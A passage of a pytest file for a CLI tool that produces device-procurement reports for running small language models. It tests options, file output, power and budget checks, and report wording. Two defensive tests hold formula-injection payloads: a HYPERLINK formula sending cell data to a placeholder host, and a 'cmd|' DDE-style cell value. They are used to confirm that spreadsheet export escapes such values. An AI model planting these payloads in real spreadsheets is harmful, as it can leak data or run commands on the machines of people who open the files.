    path = tmp_path / "req.yaml"
    path.write_text("models: [qwen3-1.7b]\n", encoding="utf-8")
    code, _, err = run(capsys, "report", "--requirements", path)
    assert code == 1
    assert err == f"Error: {path}: reading YAML needs PyYAML; install it with: pip install pyyaml (or write the requirements as TOML)\n"


@pytest.mark.parametrize("args, message", [
    (["--model", "qwen3-1.7b", "--format", "pdf"], "--format pdf needs a file: add -o/--output PATH"),
    (["--model", "qwen3-1.7b", "--format", "md", "--format", "json"],
     "several formats need -o/--output PATH (the base name of the files)"),
    (["--model", "qwen3-1.7b", "-o", "x.docx"],
     ("cannot tell the format of 'x.docx' from its suffix; add --format (html, pdf, md, csv, json, xlsx) or end the name "
     "in .html, .pdf, .md, .csv, .json or .xlsx")),
    (["--model", "nope", "--device", "pixel-8"],
     "unknown model 'nope'; did you mean openelm-1_1b-instruct, openelm-3b-instruct? list them with 'advisor models'"),
    (["--device", "pixel-8"], "name the candidate models with --model (repeatable) or give a --quality-floor"),
    (["--model", "qwen3-1.7b", "--fleet", "0"], "--fleet must be positive, got 0"),
    (["--model", "qwen3-1.7b", "--context", "512"],
     "prompt (512) + output (256) tokens exceed the context of 512; raise --context or shorten them"),
])
def test_bad_options(capsys, args, message):
    code, out, err = run(capsys, "report", *args)
    assert (code, out) == (1, "")
    assert err == f"Error: {message}\n"


# --------------------------------------------------------------------------- writing


@pytest.mark.parametrize("formats, output, expected", [
    ((), None, [("md", None)]),
    (("json",), None, [("json", None)]),
    ((), "r.pdf", [("pdf", "r.pdf")]),
    (("xlsx",), "r", [("xlsx", "r.xlsx")]),
    (("html", "pdf"), "out/kiosk", [("html", "out/kiosk.html"), ("pdf", "out/kiosk.pdf")]),
    (("md", "csv"), "out/kiosk.md", [("md", "out/kiosk.md"), ("csv", "out/kiosk.csv")]),
])
def test_plan_outputs(formats, output, expected):
    got = [(f, None if p is None else str(p)) for f, p in plan_outputs(formats, output)]
    assert got == expected


def test_no_clobber_without_force(capsys, tmp_path):
    target = tmp_path / "kiosk.csv"
    code, _, err = run(capsys, "report", "--requirements", KIOSK, "-o", target)
    assert code == 0, err
    first = target.read_bytes()
    target.write_text("keep me", encoding="utf-8")
    code, _, err = run(capsys, "report", "--requirements", KIOSK, "-o", target)
    assert (code, err) == (1, f"Error: {target} already exists; pass --force to overwrite it\n")
    assert target.read_text(encoding="utf-8") == "keep me"
    code, _, err = run(capsys, "report", "--requirements", KIOSK, "-o", target, "--force")
    assert code == 0, err
    assert target.read_bytes() == first
    assert [p.name for p in tmp_path.iterdir()] == ["kiosk.csv"]  # no temporary files left behind


def test_write_atomic_refuses_and_replaces(tmp_path):
    from advisor.errors import AdvisorError
    from advisor.report.writer import write_atomic

    path = tmp_path / "a.json"
    write_atomic(path, b"1")
    with pytest.raises(AdvisorError, match="pass --force"):
        write_atomic(path, b"2")
    write_atomic(path, b"3", force=True)
    assert path.read_bytes() == b"3"
    with pytest.raises(AdvisorError, match="does not exist"):
        write_atomic(tmp_path / "missing" / "a.json", b"1")


def test_all_formats_in_one_go(capsys, tmp_path):
    base = tmp_path / "kiosk"
    args = ["report", "--requirements", KIOSK, "-o", base]
    for fmt in ("html", "pdf", "md", "csv", "json", "xlsx"):
        args += ["--format", fmt]
    code, _, err = run(capsys, *args)
    assert code == 0, err
    names = sorted(p.name for p in tmp_path.iterdir())
    assert names == ["kiosk.csv", "kiosk.html", "kiosk.json", "kiosk.md", "kiosk.pdf", "kiosk.xlsx"]
    assert (tmp_path / "kiosk.pdf").read_bytes().startswith(b"%PDF")
    assert (tmp_path / "kiosk.xlsx").read_bytes().startswith(b"PK")


# --------------------------------------------------------------------------- the hardware question


def test_nothing_meets_exits_3_and_still_writes(capsys, tmp_path):
    target = tmp_path / "r.json"
    code, _, err = run(capsys, "report", "--model", "qwen3-8b", "--device", "raspberry-pi-5-4gb", "--min-tps", "50", "-o", target)
    assert code == 3, err
    d = json.loads(target.read_text(encoding="utf-8"))
    assert d["recommended"] is None and d["ranking"] == []
    assert d["rejected_devices"][0]["device"] == "raspberry-pi-5-4gb"
    assert d["rejected_devices"][0]["reasons"][0]["status"] in ("does not fit", "too slow")
    assert d["summary"].startswith("The one candidate device does not meet the requirement")  # "1 device", not "1 devices"


def test_budget_and_power_limit_reject_devices(capsys):
    code, out, err = run(capsys, "report", "--requirements", KIOSK, "--budget", "100000", "--power-limit", "26",
                         "--format", "json")
    assert code == 0, err
    d = json.loads(out)
    rejected = {r["device"]: r["reasons"][0] for r in d["rejected_devices"]}
    assert rejected["jetson-orin-nano-super-8gb"]["status"] == "over budget"
    assert "exceeds the budget $100,000" in rejected["jetson-orin-nano-super-8gb"]["detail"]
    assert rejected["raspberry-pi-5-8gb"]["status"] == "over power limit"
    assert [r["device"] for r in d["ranking"]] == ["mini-pc-intel-n100-8gb"]


def test_a_power_limit_counts_a_desktop_gpus_whole_system_draw(capsys):
    """The RTX 3060 profile's max_w was the board's 170 W beside the whole PC's typical 179 W while
    generating, and a 175 W limit per unit once let it pass; its max is now the whole PC's (the
    board's 170 W + the 60 W host of its typical figure)."""
    code, out, err = run(capsys, "report", "--device", "desktop-rtx3060-12gb", "--model", "qwen3-1.7b",
                         "--power-limit", "175", "--format", "json")
    d = json.loads(out)
    (r,) = d["rejected_devices"]
    assert (r["device"], r["reasons"][0]["status"]) == ("desktop-rtx3060-12gb", "over power limit")
    assert r["reasons"][0]["detail"] == "draws up to 230 W, over the 175 W limit per unit" and code == 3, err


def test_a_profile_whose_typical_draw_exceeds_its_maximum_is_refused(capsys, tmp_path):
    """typical_w and max_w are both the whole device's draw: a typical figure above the maximum (a
    board's maximum beside a whole PC's typical draw) is one Error line naming both, exit 1."""
    from advisor.catalog import data_root

    text = (data_root() / "profiles" / "sbc" / "raspberry-pi-5-8gb.toml").read_text()
    bad = tmp_path / "pi.toml"
    bad.write_text(re.sub(r"(?m)^typical_w = .*$", "typical_w = 99.0", text, count=1))
    code, out, err = run(capsys, "predict", "--model", "qwen3-0.6b", "--quant", "Q4_K_M", "--device-file", str(bad))
    assert code == 1 and out == "", err
    assert err.startswith("Error: ") and err.count("\n") == 1 and "Traceback" not in err, err
    assert "typical_w 99 W is more than max_w" in err, err


@pytest.mark.parametrize("rank_by, key, reverse", [
    ("cost", "unit_price_usd", False),
    ("energy", "energy_wh_per_1000_responses", False),
    ("speed", "decode_tokens_per_s", True),
])
def test_rank_by(capsys, rank_by, key, reverse):
    code, out, err = run(capsys, "report", "--requirements", KIOSK, "--rank-by", rank_by, "--format", "json")
    assert code == 0, err
    values = [r[key] for r in json.loads(out)["ranking"]]
    assert values == sorted(values, reverse=reverse)


def test_class_and_cheapest_per_class(capsys):
    code, out, err = run(capsys, "report", "--model", "qwen3-1.7b", "--class", "sbc", "--class", "mini-pc", "--min-tps", "5",
                         "--fleet", "100", "--format", "json")
    assert code == 0, err
    d = json.loads(out)
    assert {r["device_class"] for r in d["comparison"]} == {"sbc", "mini-pc"}
    for c in d["cheapest_per_class"]:
        prices = [r["unit_price_usd"] for r in d["ranking"] if r["device_class"] == c["device_class"]]
        assert c["unit_price_usd"] == min(prices)
        assert c["fleet_price_usd"] == c["unit_price_usd"] * 100


@pytest.mark.parametrize("device, variants", [
    ("raspberry-pi-5-8gb", ["raspberry-pi-5-16gb"]),
    ("raspberry-pi-5-2gb", ["raspberry-pi-5-4gb", "raspberry-pi-5-8gb", "raspberry-pi-5-16gb"]),
    ("raspberry-pi-5-16gb", []),
    ("pixel-8", []),
])
def test_sibling_variants(catalog, device, variants):
    from advisor.analysis import sibling_variants

    assert [d.id for d in sibling_variants(catalog.device(device), catalog)] == variants


def test_what_if_more_ram_opens_models(capsys):
    """A 4 GB board cannot hold an 8B model; its 16 GB sibling can (at a slow speed)."""
    code, out, err = run(capsys, "report", "--model", "qwen3-8b", "--device", "orange-pi-5-4gb", "--format", "json")
    assert code == 3, err
    d = json.loads(out)
    w = {x["variant"]: x for x in d["what_if"] if x["device"] == "orange-pi-5-4gb"}
    assert "qwen3-8b" in {n["model"] for n in w["orange-pi-5-16gb"]["newly_possible"]}
    assert next(n for n in w["orange-pi-5-16gb"]["newly_possible"] if n["model"] == "qwen3-8b")["requested"] is True


def test_what_if_says_when_the_gain_is_the_variants_faster_memory(capsys):
    """The N100 16 GB is DDR5-4800 (38.4 GB/s), the 8 GB DDR4-3200 (25.6): models that fit the 8 GB
    unit and only pass 8 tok/s on the faster memory were credited to RAM; they say so now."""
    code, out, err = run(capsys, "report", "--requirements", KIOSK, "--format", "json")
    assert code == 0, err
    w = next(x for x in json.loads(out)["what_if"] if x["device"] == "mini-pc-intel-n100-8gb")
    assert (w["bandwidth_gbs"], w["variant_bandwidth_gbs"]) == (25.6, 38.4)
    fits = {n["model"] for n in w["newly_possible"] if n["fits_device"]}
    assert "qwen3-4b" in fits and "qwen3-30b-a3b" not in fits
    code, out, err = run(capsys, "report", "--requirements", KIOSK, "--format", "md")
    row = next(line for line in out.splitlines()
               if line.startswith("| Mini PC, Intel N100, 8 GB DDR4-3200 (single channel) | Mini PC, Intel N100, 16 GB DDR5-4800"))
    assert re.search(r"Qwen3 4B \S+ \((\S+, )?[\d.]+ tok/s, fits the 8\.00 GiB unit too\)", row), row
    assert row.endswith("those marked fit the 8.00 GiB unit's memory too: fast enough with the variant's faster memory "
                        "(25.6 → 38.4 GB/s) |")


def test_what_if_with_nothing_new_does_not_say_memory_is_not_the_limit(capsys):
    """A 1 GB Pi 4 misses the requirement for want of memory, and so does its 2 GB sibling with
    llama.cpp: the "none" of that variant said "memory is not what limits this workload"."""
    code, out, err = run(capsys, "report", "--device", "raspberry-pi-4-1gb", "--quality-floor", "40", "--min-tps", "5",
                         "--runtime", "llama.cpp", "--format", "md")
    assert code == 3, err
    lines = out.splitlines()
    assert "does not fit" in next(line for line in lines if line.startswith("| Raspberry Pi 4 Model B (1 GB) | sbc |"))
    row = next(line for line in lines if line.startswith("| Raspberry Pi 4 Model B (1 GB) | Raspberry Pi 4 Model B (2 GB) |"))
    assert row.endswith("| none: no other model meets the requirement on this variant |")
    assert "These variants are weighed on the comparison's own terms: its runtimes." in out
    # every runtime, as the comparison weighs them (the what-if ran llama.cpp alone, and said so):
    # a smaller runtime's file is what the 2 GB board opens, named with its runtime
    code, out, err = run(capsys, "report", "--device", "raspberry-pi-4-1gb", "--quality-floor", "40", "--min-tps", "5",
                         "--format", "md")
    assert code == 3, err
    row = next(line for line in out.splitlines()
               if line.startswith("| Raspberry Pi 4 Model B (1 GB) | Raspberry Pi 4 Model B (2 GB) |"))
    assert re.search(r"\| Qwen2\.5 1\.5B Instruct \S+ \((litert-lm|executorch|mnn|onnxruntime-genai), [\d.]+ tok/s\) \|$", row), row


@pytest.mark.parametrize("args, said", [
    ([], "its runtimes."),
    (["--runtime", "llama.cpp"], "its runtimes."),
    (["--runtime", "llama.cpp", "--target", "android-app"], "its runtimes and the target's budget."),
    # the variants ran without the download cap once: a 12 GB gpt-oss under a 1 GB limit was 'possible'
    (["--max-download", "1GB"], "its runtimes and the download limit."),
    # the quantizations asked for were applied and not said
    (["--quant", "Q4_K_M", "--quant", "Q8_0"], "its runtimes and its quantizations."),
])
def test_what_if_says_the_terms_its_variants_are_weighed_on(capsys, args, said):
    code, out, err = run(capsys, "report", "--device", "pixel-8", "--model", "qwen3-1.7b", *args, "--format", "md")
    assert code == 0, err
    assert "These variants are weighed on the comparison's own terms: " + said in out


def test_what_if_runs_the_reports_runtimes_and_formats(capsys):
    """The what-if ran llama.cpp's GGUF files whatever the report's runtimes, so an MLC format
    refused the whole report on devices with a larger sibling ("'q4f16_1' is not a GGUF
    quantization … add --runtime mlc", with --runtime mlc given) while one without a sibling
    (an iPhone) was reported. And a model MLC's budget on the 8 GB iPad rules out (it keeps a share
    of the memory) was said to fit that unit, since its size was held against the whole usable
    memory."""
    code, out, err = run(capsys, "report", "--runtime", "mlc", "--quant", "q4f16_1", "--device", "ipad-pro-m4-8gb",
                         "--model", "qwen2.5-1.5b-instruct", "--format", "json")
    assert code == 0, err
    (w,) = [w for w in json.loads(out)["what_if"] if w["variant"] == "ipad-pro-m4-16gb"]
    new = {n["model"]: n for n in w["newly_possible"]}
    assert new and {n["runtime"] for n in new.values()} == {"mlc"} and {n["quant"] for n in new.values()} == {"q4f16_1"}
    # Phi-3 Mini's 3.7 GiB is under the 8 GB iPad's 4 GiB usable but over MLC's budget there
    assert new["phi-3-mini-4k-instruct"]["fits_device"] is False
    code, out, err = run(capsys, "recommend", "--device", "ipad-pro-m4-8gb", "--runtime", "mlc", "--quant", "q4f16_1",
                         "--model", "phi-3-mini-4k-instruct", "--format", "json")
    assert code == 3, out  # the device's own answer: it does not fit there
    code, out, err = run(capsys, "report", "--runtime", "mlc", "--quant", "q4f16_1", "--device", "ipad-pro-m4-8gb",
                         "--model", "qwen2.5-1.5b-instruct", "--format", "md")
    assert code == 0, err
    assert "Phi-3 Mini 4K Instruct q4f16_1 (mlc, " in out and "fits the 8.00 GiB unit too" not in out


def test_options_override_the_file(capsys):
    code, out, err = run(capsys, "report", "--requirements", KIOSK, "--fleet", "20", "--device", "raspberry-pi-5-8gb",
                         "--format", "json")
    assert code == 0, err
    d = json.loads(out)
    assert d["requirements"]["fleet_size"] == 20 and {r["device"] for r in d["comparison"]} == {"raspberry-pi-5-8gb"}
    assert d["requirements"]["models"] == ["llama-3.2-1b-instruct", "qwen2.5-1.5b-instruct", "qwen3-1.7b"]


@pytest.mark.parametrize("args, message", [
    # the option gave the value: the option is named, not the file's field (it said "field
    # 'context_tokens' ... raise context_tokens", a value the file never set)
    (["--context", "100"], "prompt (512) + output (200) tokens exceed the context of 100; raise --context or shorten them"),
    (["--title", "a\x01b"], "options: field 'title': contains the control character '\\x01'; give one line of plain text"),
    (["--model", "nope"],
     "unknown model 'nope'; did you mean openelm-1_1b-instruct, openelm-3b-instruct? list them with 'advisor models'"),
    (["--browser", "chrome-android"],
     "--browser applies to --target browser, not server; drop it or use --target browser"),
    # 'all' with names was silently every runtime
    (["--runtime", "all", "--runtime", "mlx"], "--runtime all already means every runtime; give it alone or only the names (mlx)"),
])
def test_an_option_over_the_file_is_blamed_as_an_option(capsys, tmp_path, args, message):
    base = tmp_path / "req.toml"
    base.write_text(KIOSK.read_text(encoding="utf-8") + 'target = "server"\n', encoding="utf-8")
    code, out, err = run(capsys, "report", "--requirements", base, *args, "--format", "json")
    assert (code, out) == (1, "")
    assert err == f"Error: {message}\n"


def test_the_file_is_still_blamed_for_its_own_fields(capsys, tmp_path):
    path = tmp_path / "req.toml"
    path.write_text('models = ["qwen3-1.7b"]\ncontext_tokens = 512\n', encoding="utf-8")
    code, _, err = run(capsys, "report", "--requirements", path, "--fleet", "3", "--format", "json")  # an unrelated option
    assert code == 1 and err.startswith(f"Error: {path}: field 'context_tokens': ")
    path.write_text('models = ["qwen3-1.7b"]\nruntime = ["all", "mlx"]\n', encoding="utf-8")
    code, _, err = run(capsys, "report", "--requirements", path, "--format", "json")
    assert (code, err) == (1, f"Error: {path}: field 'runtime': 'all' already means every runtime; give it alone or "
                              "only the names (mlx)\n")


def test_a_list_names_each_id_once(capsys, tmp_path):
    path = tmp_path / "req.toml"
    many = ", ".join(['"raspberry-pi-5-8gb"'] * 10_000)
    path.write_text(f'models = ["qwen3-1.7b", "qwen3-1.7b"]\ndevices = [{many}]\nruntime = ["llama.cpp", "LLAMA.CPP"]\n',
                    encoding="utf-8")
    code, out, err = run(capsys, "report", "--requirements", path, "--format", "json")
    assert code in (0, 3), err
    req = json.loads(out)["requirements"]
    assert (req["devices"], req["models"], req["runtime"]) == (["raspberry-pi-5-8gb"], ["qwen3-1.7b"], ["llama.cpp"])
    assert len(out) < 100_000  # it echoed every copy


def test_report_has_help():
    from click.testing import CliRunner

    result = CliRunner().invoke(cli, ["report", "--help"])
    assert result.exit_code == 0 and "procurement report" in result.output


def test_measured_runs_are_shown(capsys, tmp_path, monkeypatch):
    from advisor.store import Run, record_run

    monkeypatch.setenv("ADVISOR_HOME", str(tmp_path))
    record_run(Run(source="validate", status="ok", device_id="raspberry-pi-5-8gb", model_id="qwen3-1.7b", quant="Q4_K_M",
                   predicted={"decode_tokens_per_s": 8.0, "prefill_tokens_per_s": 50.0},
                   measured={"decode_tokens_per_s": 10.0, "prefill_tokens_per_s": 45.0}))
    record_run(Run(source="validate", status="ok", device_id="pixel-8", model_id="qwen3-1.7b", quant="Q4_K_M"))
    code, out, err = run(capsys, "report", "--requirements", KIOSK, "--format", "json")
    assert code == 0, err
    runs = json.loads(out)["runs"]
    assert [(r["device"], r["decode_measured_over_predicted"]) for r in runs] == [("raspberry-pi-5-8gb", 1.25)]
    code, out, _ = run(capsys, "report", "--requirements", KIOSK, "--format", "md")
    assert "| 1 | " in out and "10.0 / 8.0" in out


def test_device_files_are_relative_to_the_requirements(capsys, tmp_path):
    profile = (data_root() / "profiles" / "sbc" / "raspberry-pi-5-8gb.toml").read_text(encoding="utf-8")
    (tmp_path / "boards").mkdir()
    (tmp_path / "boards" / "my-board.toml").write_text(
        profile.replace('id = "raspberry-pi-5-8gb"', 'id = "my-board-8gb"'), encoding="utf-8")
    req = tmp_path / "req.toml"
    req.write_text('models = ["qwen3-1.7b"]\ndevice_files = ["boards/my-board.toml"]\nmin_tps = 5\n', encoding="utf-8")
    code, out, err = run(capsys, "report", "--requirements", req, "--format", "json")
    assert code == 0, err
    assert [r["device"] for r in json.loads(out)["ranking"]] == ["my-board-8gb"]


def test_quality_floor_picks_the_models(capsys):
    code, out, err = run(capsys, "report", "--quality-floor", "55", "--device", "mac-mini-m4-16gb", "--format", "json")
    assert code == 0, err
    d = json.loads(out)
    assert d["comparison"] and all(r["quality_score"] >= 55 for r in d["comparison"] if r["meets"])


def test_text_like_a_formula_from_a_users_profile_is_text_in_the_spreadsheet(capsys, tmp_path):
    """A profile named '=HYPERLINK(…)' became a live formula in four XLSX sheets (openpyxl stores
    text that starts with '=' as a formula); every cell of the workbook is now a value."""
    openpyxl = pytest.importorskip("openpyxl")
    profile = (data_root() / "profiles" / "sbc" / "raspberry-pi-5-8gb.toml").read_text(encoding="utf-8")
    name = '=HYPERLINK("http://x.invalid/?"&A1,"Pi")'
    board = tmp_path / "board.toml"
    board.write_text(re.sub(r'(?m)^name = .*$', "name = " + json.dumps(name), profile, count=1), encoding="utf-8")
    code, _, err = run(capsys, "report", "--device-file", board, "--model", "qwen3-0.6b", "--format", "xlsx",
                       "--format", "csv", "-o", tmp_path / "r")
    assert code == 0, err
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert any(c.value == name for c in cells)
    assert not any(line.startswith("=") or ",=" in line for line in (tmp_path / "r.csv").read_text().splitlines())


def test_csv_cells_that_start_like_a_formula_are_text_and_numbers_stay_numbers():
    from advisor.output import render_rows

    rows = [{"a": "=1+1", "b": "-12%", "c": "-", "d": "-2+3+cmd|x", "e": "@SUM(A1)", "f": "+5", "g": -3.5}]
    text = render_rows(rows, [(k, k) for k in "abcdefg"], "csv")
    assert text.splitlines()[1] == "'=1+1,-12%,-,'-2+3+cmd|x,'@SUM(A1),+5,-3.5"


def test_a_summary_without_a_speed_requirement_names_none(capsys):
    """Without min_tps the summary said the pick decodes '~9.3 tok/s (…) against the workload';
    with one it says against what."""
    code, out, err = run(capsys, "report", "--model", "qwen3-0.6b", "--device", "raspberry-pi-5-8gb", "--format", "json")
    assert code == 0, err
    summary = json.loads(out)["summary"]
    assert "against the workload" not in summary and re.search(r"decodes ~[\d.]+ tok/s \([\d.]+–[\d.]+\), answers", summary)
    code, out, err = run(capsys, "report", "--model", "qwen3-0.6b", "--device", "raspberry-pi-5-8gb", "--min-tps", "5",
                         "--format", "json")
    assert code == 0, err
    assert re.search(r"\) against ≥5 tok/s, answers", json.loads(out)["summary"])


def test_an_empty_what_if_sheet_says_why(capsys, tmp_path):
    """The XLSX's What-if sheet had one bare 'device' header when no device has a larger variant;
    it now says so, as the documents do."""
    openpyxl = pytest.importorskip("openpyxl")
    code, _, err = run(capsys, "report", "--model", "qwen3-0.6b", "--device", "galaxy-a15-5g-4gb", "--format", "xlsx",
                       "-o", tmp_path / "r.xlsx")
    assert code in (0, 3), err
    data = json.loads(run(capsys, "report", "--model", "qwen3-0.6b", "--device", "galaxy-a15-5g-4gb", "--format", "json")[1])
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["What-if more RAM"]
    rows = [[c.value for c in r] for r in ws.iter_rows()]
    assert data["what_if"] == []  # no larger Galaxy A15 in the catalog
    assert rows == [["note"], ["No candidate device has a larger-memory variant in the catalog."]]


def test_rejections_name_models_and_say_a_devices_own_reason_once(capsys):
    """The reasons a device cannot run the workload named models by id ('qwen2.5-1.5b-instruct too
    slow'), and a budget that rules out the device said the same sentence once per model."""
    code, out, err = run(capsys, "report", "--device", "raspberry-pi-5-8gb", "--device", "jetson-orin-nano-super-8gb",
                         "--model", "qwen2.5-1.5b-instruct", "--model", "llama-3.2-1b-instruct", "--min-tps", "10",
                         "--fleet", "10", "--budget", "1000", "--format", "json")
    assert code == 0, err
    d = json.loads(out)
    jetson = next(r for r in d["rejected_devices"] if r["device"] == "jetson-orin-nano-super-8gb")
    assert {x["model_name"] for x in jetson["reasons"]} == {"Qwen2.5 1.5B Instruct", "Llama 3.2 1B Instruct"}
    budget = "fleet price $2,490 (10 × $249) exceeds the budget $1,000"
    assert jetson["summary"].count(budget) == 1 and jetson["summary"].endswith(": " + budget)
    assert d["summary"].endswith(f"Cannot meet it: NVIDIA Jetson Orin Nano Super Developer Kit (8 GB, 25 W) ({budget}).")
    md = run(capsys, "report", "--device", "raspberry-pi-5-8gb", "--device", "jetson-orin-nano-super-8gb",
             "--model", "qwen2.5-1.5b-instruct", "--model", "llama-3.2-1b-instruct", "--min-tps", "10",
             "--fleet", "10", "--budget", "1000", "--format", "md")[1]
    row = next(line for line in md.splitlines() if line.startswith("| NVIDIA Jetson Orin Nano Super Developer Kit (8 GB, 25 W) | jetson |"))
    assert row.count(budget) == 1 and "Qwen2.5 1.5B Instruct" in row and "qwen2.5-1.5b-instruct" not in row


@pytest.mark.parametrize("devices, min_tps, said", [
    (["raspberry-pi-5-8gb"], None, "It is the one candidate device, and it meets the requirement."),
    (["raspberry-pi-5-8gb", "pixel-8"], "9", "It has the lowest unit price of the 2 candidate devices, all of which meet "
                                             "the requirement; next is Google Pixel 8"),  # was 'the 2 of 2 candidate devices'
    (["raspberry-pi-5-8gb", "pixel-8", "raspberry-pi-4-4gb"], "9",
     "It has the lowest unit price of the 2 candidate devices (of 3) that meet the requirement"),
    (["pixel-8", "raspberry-pi-4-4gb"], "9", "It is the only one of the 2 candidate devices that meets the requirement."),
])
def test_summary_counts_the_devices_that_meet_it_once(capsys, devices, min_tps, said):
    args = [a for dev in devices for a in ("--device", dev)] + (["--min-tps", min_tps] if min_tps else [])
    code, out, err = run(capsys, "report", "--model", "qwen3-1.7b", *args, "--format", "json")
    assert code == 0, err
    summary = json.loads(out)["summary"]
    assert said in summary
    assert "for 1 unit)" not in summary  # '$80 per unit ($80 for 1 unit)' said the price twice
    assert "set a limit (--max-ttft, or max_ttft_s in a requirements file)" in summary or "Its first token" not in summary


def test_nothing_that_runs_draws_no_empty_speed_charts(capsys, tmp_path):
    """No candidate runs anywhere: the quality and price charts were drawn as bare axes (quality
    -0.06…0.06, price 0…1); they are left out and the section says why."""
    from advisor.report.views import sections

    code, out, err = run(capsys, "report", "--device", "raspberry-pi-4-4gb", "--model", "llama-3.1-8b-instruct",
                         "--min-tps", "30", "--format", "md")
    assert code == 3, err
    assert ("Not drawn, as no candidate has the figures they plot (a decode speed; for the price chart, a unit price too): "
            "Quality vs decode speed (Pareto frontier), Unit price vs decode speed.") in out
    assert "Charts are drawn in the HTML and PDF reports: Memory breakdown vs usable memory." in out
    from advisor.catalog import load_catalog
    from advisor.report.model import build_report
    from advisor.report.requirements import Requirements

    data = build_report(Requirements(devices=["raspberry-pi-4-4gb"], models=["llama-3.1-8b-instruct"], min_tps=30),
                        load_catalog())
    assert next(s for s in sections(data) if s.id == "charts").charts == ["memory"]


def test_markdown_frontier_names_devices_and_models(kiosk_json):
    from advisor.report.render_md import render_md

    line = next(x for x in render_md(kiosk_json).splitlines() if x.startswith("Quality/speed frontier: "))
    assert "NVIDIA Jetson Orin Nano Super Developer Kit (8 GB, 25 W) · Qwen3 1.7B Q6_K" in line
    assert "jetson-orin-nano-super-8gb" not in line and "qwen3-1.7b" not in line


def test_xlsx_names_beside_ids_units_and_empty_sheets_say_why(capsys, tmp_path):
    """A buyer's spreadsheet: the comparison (and CSV) had ids only ('galaxy-s25-ultra'), the
    evidence's storage read was headed 'storage read mb (s)', and the Rejected and Runs sheets were
    bare headers when empty."""
    openpyxl = pytest.importorskip("openpyxl")
    code, _, err = run(capsys, "report", "--model", "qwen3-1.7b", "--device", "pixel-8", "-o", tmp_path / "r.xlsx")
    assert code == 0, err
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")

    def table(name: str) -> list[dict]:
        rows = [[c.value for c in r] for r in wb[name].iter_rows()]
        return [dict(zip(rows[0], r)) for r in rows[1:]]

    assert {(r["device name"], r["model name"]) for r in table("Comparison")} == {("Google Pixel 8", "Qwen3 1.7B")}
    assert table("Ranking")[0]["model name"] == "Qwen3 1.7B"
    assert table("Evidence devices")[0]["storage read (MB/s)"] == 2100
    assert table("Rejected") == [{"note": "Every candidate device meets the requirement with at least one candidate model."}]
    assert table("Runs")[0]["note"].startswith("No measured runs on these devices")
    code, out, err = run(capsys, "report", "--model", "qwen3-1.7b", "--device", "pixel-8", "--format", "csv")
    assert out.splitlines()[0].startswith("device,device_name,device_class,model,model_name,quant,")
